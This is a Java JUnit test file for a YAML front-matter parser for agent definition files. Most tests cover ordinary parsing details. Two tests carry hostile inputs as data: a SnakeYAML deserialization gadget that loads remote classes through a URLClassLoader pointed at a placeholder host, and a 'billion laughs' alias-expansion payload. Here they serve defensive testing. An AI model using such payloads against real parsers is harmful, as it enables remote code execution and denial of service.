package dev.agentpad.yaml;

import static org.assertj.core.api.Assertions.assertThat;

import dev.agentpad.document.AgentDocument;
import dev.agentpad.document.Position;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

class FrontMatterReaderTest {

    private static FrontMatter read(String text) {
        return FrontMatterReader.read(AgentDocument.parse(text));
    }

    private static YamlMapping mapping(String text) {
        FrontMatter fm = read(text);
        assertThat(fm.error()).as("front matter error").isEmpty();
        return fm.mapping().orElseThrow();
    }

    @Test
    void keepsRawTextStyleAndExactRangeOfEachValue() {
        String text = """
                ---
                name: code-reviewer
                model: 'opus'
                enabled: no
                version: 1.10
                description: |
                  Line one.
                  Line two.

                tools: [Read, Grep]
                ---
                """;
        YamlMapping m = mapping(text);
        YamlScalar model = (YamlScalar) m.value("model").orElseThrow();
        assertThat(model.style()).isEqualTo(ScalarStyle.SINGLE_QUOTED);
        assertThat(model.range().of(text)).isEqualTo("'opus'");
        YamlScalar enabled = (YamlScalar) m.value("enabled").orElseThrow();
        assertThat(enabled.kind()).isEqualTo(ScalarKind.BOOLEAN);
        assertThat(enabled.value()).as("raw text, not YAML 1.1's false").isEqualTo("no");
        YamlScalar version = (YamlScalar) m.value("version").orElseThrow();
        assertThat(version.value()).isEqualTo("1.10");
        YamlScalar description = (YamlScalar) m.value("description").orElseThrow();
        assertThat(description.style()).isEqualTo(ScalarStyle.LITERAL);
        assertThat(description.value()).isEqualTo("Line one.\nLine two.\n");
        assertThat(description.range().of(text)).isEqualTo("|\n  Line one.\n  Line two.");
        YamlSequence tools = (YamlSequence) m.value("tools").orElseThrow();
        assertThat(tools.flow()).isTrue();
        assertThat(tools.range().of(text)).isEqualTo("[Read, Grep]");
        assertThat(m.entry("description").orElseThrow().lines().of(text))
                .isEqualTo("description: |\n  Line one.\n  Line two.\n");
    }

    @Test
    void rangesAreJavaOffsetsEvenAfterAnEmoji() {
        String text = "---\ndescription: 🚀 Ships code 🚀\nmodel: opus\n---\n";
        YamlScalar model = (YamlScalar) mapping(text).value("model").orElseThrow();
        assertThat(model.range().of(text)).isEqualTo("opus");
        assertThat(AgentDocument.parse(text).positionOf(model.range().start())).isEqualTo(new Position(3, 8));
    }

    @Test
    void blockListRangeEndsAtItsLastItemNotAtTheNextComment() {
        String text = "---\ntools:\n  - Read\n  - Grep\n# trailing comment\nmodel: x\n---\n";
        YamlMapping m = mapping(text);
        assertThat(m.value("tools").orElseThrow().range().of(text)).isEqualTo("- Read\n  - Grep");
        assertThat(m.entry("tools").orElseThrow().lines().of(text)).isEqualTo("tools:\n  - Read\n  - Grep\n");
    }

    @Test
    void duplicateKeysAreKeptAndTheLastWins() {
        YamlMapping m = mapping("---\nmodel: a\nmodel: b\n---\n");
        assertThat(m.entries("model")).hasSize(2);
        assertThat(((YamlScalar) m.value("model").orElseThrow()).value()).isEqualTo("b");
    }

    @Test
    void aliasIsReportedAtTheReferenceNotTheAnchor() {
        String text = "---\nbase: &b sonnet\nmodel: *b\n---\n";
        YamlNode model = mapping(text).value("model").orElseThrow();
        assertThat(model).isInstanceOf(YamlAlias.class);
        assertThat(model.range().of(text)).isEqualTo("*b");
    }

    @Test
    void invalidYamlGivesMessageLineAndColumn() {
        String text = "---\nname: x\ndescription: Use this agent when: you need it\n---\nbody\n";
        FrontMatter fm = read(text);
        assertThat(fm.isValid()).isFalse();
        YamlError error = fm.error().orElseThrow();
        assertThat(error.message()).contains("mapping values are not allowed");
        assertThat(error.position()).isEqualTo(new Position(3, 33));
    }

    @Test
    void frontMatterMustBeAMapping() {
        assertThat(read("---\n- a\n- b\n---\n").error().orElseThrow().message()).contains("must be a map").contains("list");
        assertThat(read("---\njust text\n---\n").error().orElseThrow().message()).contains("text");
    }

    @Test
    void unterminatedFrontMatterIsAnError() {
        assertThat(read("---\nname: x\n").error().orElseThrow().message()).contains("not closed");
    }

    @Test
    void noOrEmptyFrontMatterIsAnEmptyMapping() {
        assertThat(read("just a body").mapping().orElseThrow().entries()).isEmpty();
        assertThat(read("just a body").isPresent()).isFalse();
        assertThat(read("---\n# only a comment\n---\nbody").mapping().orElseThrow().entries()).isEmpty();
    }

    @Test
    void customTagsAreNeverInstantiated() {
        FrontMatter fm = read("---\nx: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n---\n");
        assertThat(fm.error().orElseThrow().message()).contains("Global tag is not allowed");
        YamlScalar local = (YamlScalar) read("---\ny: !custom z\n---\n").mapping().orElseThrow().value("y").orElseThrow();
        assertThat(local.kind()).as("a local tag is only recorded").isEqualTo(ScalarKind.OTHER);
    }

    @Test
    @Timeout(5)
    void billionLaughsFailsQuickly() {
        StringBuilder yaml = new StringBuilder("---\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            char p = (char) (c - 1);
            yaml.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                yaml.append(i == 0 ? "" : ",").append('*').append(p);
            }
            yaml.append("]\n");
        }
        FrontMatter fm = read(yaml.append("---\n").toString());
        assertThat(fm.isValid()).isFalse();
        assertThat(fm.error().orElseThrow().message()).containsIgnoringCase("alias");
    }

    @Test
    void deepNestingIsBounded() {
        String deep = "[".repeat(500) + "]".repeat(500);
        assertThat(read("---\nx: " + deep + "\n---\n").isValid()).isFalse();
    }

    @Test
    void oversizedFrontMatterIsRefusedWithAClearMessage() {
        String big = "---\ndescription: " + "x".repeat(FrontMatterReader.MAX_FRONT_MATTER_CHARS) + "\n---\n";
        assertThat(read(big).error().orElseThrow().message()).contains("too large");
    }

    @Test
    void tabIndentationIsAYamlError() {
        assertThat(read("---\ntools:\n\t- Read\n---\n").isValid()).isFalse();
    }
}
